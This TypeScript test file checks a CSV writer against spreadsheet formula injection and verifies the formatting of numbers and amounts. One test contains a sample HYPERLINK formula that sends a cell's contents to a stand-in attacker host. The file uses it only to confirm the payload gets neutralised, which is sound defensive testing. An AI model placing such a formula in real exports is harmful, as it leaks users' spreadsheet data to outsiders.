import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, csvDocument, csvTextOf, type CsvValue } from './csv';

/** what a spreadsheet would run: a cell whose text starts with one of these */
const FORMULA = /^[=+\-@\t\r]/;
const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ';'), fc.string()).map(([a, b]) => a + b),
);

/** the cells of a CSV as a spreadsheet reads them */
const read = (csv: string) => parse(csv, { delimiter: ';', bom: true, relax_column_count: true, record_delimiter: '\r\n' }) as string[][];

describe('the CSV writer', () => {
  it('no text cell starts with a formula character, and every text reads back as it was', () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const cells = read(csvDocument(rows));
        expect(cells).toHaveLength(rows.length);
        cells.forEach((row, r) => {
          expect(row).toHaveLength(rows[r].length);
          row.forEach((cell, c) => {
            expect(cell).not.toMatch(FORMULA);
            expect(csvTextOf(cell)).toBe(rows[r][c]);
          });
        });
      }),
    );
  });

  it('writes figures and amounts as figures (negative ones too), never as text a spreadsheet would run', () => {
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), fc.integer({ min: -1e9, max: 1e9 }), (n, cents) => {
        const [row] = read(csvDocument([[n, { cents }] as CsvValue[]]));
        expect(Number(row[0].replace(',', '.'))).toBe(n === 0 ? 0 : n);
        expect(row[1]).toMatch(/^-?\d+,\d\d$/);
        expect(Math.round(Number(row[1].replace(',', '.')) * 100)).toBe(cents);
      }),
    );
  });

  it('quotes text and neutralises what would run', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A2,"Apri")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A2,""Apri"")"`);
    expect(csvCell('Maria Rossi')).toBe('"Maria Rossi"');
    expect(csvCell({ cents: -1250 })).toBe('-12,50');
    expect(() => csvCell(Number.NaN)).toThrow(RangeError);
  });
});
